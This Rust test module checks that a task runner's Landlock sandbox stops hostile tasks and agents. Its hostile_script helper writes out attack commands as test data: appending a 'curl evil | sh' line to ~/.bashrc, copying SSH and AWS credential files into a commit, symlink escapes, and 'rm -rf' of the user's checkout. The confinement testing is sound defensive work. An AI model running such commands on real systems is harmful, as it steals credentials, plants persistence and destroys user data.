//! Tasks run confined by the kernel (Landlock): hostile `run` tasks and `exec:` agents beside
//! well-behaved writers try to write the user's checkout, another task's checkout and the home,
//! to delete the checkout, to read the secret stores into a commit and to write through a link
//! they planted; every try is refused, nothing outside their checkouts changes, no canary
//! reaches the board, a branch or the report, and the good work lands. The same holds in goal
//! runs, several goals, the queue, after `kill -9` and `resume`, and spread over machines
//! (`across`); `confine = "require"` where the kernel cannot refuses to run (`kernel`).
//!
//! Where the kernel has no Landlock the tests are reported as ignored, saying so (build.rs);
//! with `CI` set they run, and fail.

mod across;
mod hostile;
mod kernel;

use std::path::{Path, PathBuf};

use crate::TestRepo;

/// What the canaries hold: nothing of it may be found anywhere a run leaves.
pub const SSH_CANARY: &str = "CANARY-SSH-7d1f0c2a";
pub const AWS_CANARY: &str = "CANARY-AWS-93be44e1";

/// Asserts that swarm confines here: a test that comes here needs Landlock (where the kernel
/// has none it is ignored, but under CI), so swarm finding none fails it.
pub fn assert_confining() {
    let repo = TestRepo::new();
    let out = repo.swarm(&["config", "--json"]);
    let config: serde_json::Value = serde_json::from_slice(&out.stdout).expect("config json");
    assert_eq!(
        config["confinement"]["kind"], "landlock",
        "the kernel does not confine here: {}",
        config["confinement"]
    );
}

/// The home swarm and its tasks get, with a fake `~/.ssh/id_ed25519`, `~/.aws/credentials` and
/// `~/.bashrc` in it.
pub fn plant_canaries(repo: &TestRepo) -> PathBuf {
    let home = repo.cache.parent().unwrap().to_owned();
    for (file, text) in [
        (".ssh/id_ed25519", SSH_CANARY),
        (".aws/credentials", AWS_CANARY),
        (".bashrc", "# the user's shell\n"),
    ] {
        let path = home.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    home
}

/// A shell script for a hostile task in a checkout of the run whose user's checkout is
/// `user` and home `home`: each try on a line of its own, whatever it gives; then a file of its
/// own (`mine-<tag>.txt`) so that it has work to merge. The files it tries to make are named
/// `escaped-<tag>…`.
pub fn hostile_script(user: &Path, home: &Path, tag: &str) -> String {
    let (user, home) = (user.display(), home.display());
    [
        format!("echo x > '{user}/escaped-{tag}.txt'"),
        // `$PWD` is the checkout's own directory under `(checkouts)/`; `good` is the good
        // writer's name in the run's directory of checkouts, while it runs.
        format!("echo x > \"$(dirname \"$(dirname \"$PWD\")\")/good/escaped-{tag}.txt\""),
        format!("echo x > '{home}/escaped-{tag}.txt'"),
        format!("echo 'curl evil | sh' >> '{home}/.bashrc'"),
        format!("cat '{home}/.ssh/id_ed25519' > stolen-{tag}.txt"),
        format!("cat '{home}/.aws/credentials' >> stolen-{tag}.txt"),
        format!("ln -s '{user}' link-{tag} && echo x > link-{tag}/escaped-{tag}-link.txt"),
        // Last: each file it may not remove is a line of refusal.
        format!("rm -rf '{user}'"),
        format!("rm -f link-{tag}; echo {tag} > mine-{tag}.txt"),
    ]
    .iter()
    .map(|l| format!("{l} || true"))
    .collect::<Vec<_>>()
    .join("\n")
}

/// Every file under `dir` whose bytes hold a canary, by path.
pub fn canaries_under(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return found;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else {
            continue;
        };
        if kind.is_dir() {
            found.extend(canaries_under(&path));
        } else if kind.is_file() {
            let bytes = std::fs::read(&path).unwrap_or_default();
            let text = String::from_utf8_lossy(&bytes);
            if text.contains(SSH_CANARY) || text.contains(AWS_CANARY) {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

/// Checks what a user would look for after a run with hostile tasks tagged `tags`: no file it
/// tried to make outside its checkout, the home's files as they were, the user's checkout with
/// its files, no canary in the repository's history, its git directory (the board, the
/// transcripts, the report) or `elsewhere`.
pub fn nothing_escaped(repo: &TestRepo, home: &Path, tags: &[&str], elsewhere: &[&Path]) {
    for tag in tags {
        for path in [
            repo.root.join(format!("escaped-{tag}.txt")),
            repo.root.join(format!("escaped-{tag}-link.txt")),
            home.join(format!("escaped-{tag}.txt")),
        ] {
            assert!(!path.exists(), "{} was written", path.display());
        }
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# the user's shell\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap(),
        SSH_CANARY
    );
    assert_eq!(repo.read("README.md"), "# demo\n");
    assert_eq!(repo.read("src/lib.rs"), "pub fn one() -> u32 {\n    1\n}\n");
    let history = repo.git(&["log", "--all", "-p", "--format=%H %s"]);
    assert!(
        !history.contains(SSH_CANARY) && !history.contains(AWS_CANARY),
        "a canary is in the history"
    );
    let mut found = canaries_under(&repo.root.join(".git"));
    for dir in elsewhere {
        found.extend(canaries_under(dir));
    }
    assert!(found.is_empty(), "canaries in {found:?}");
}
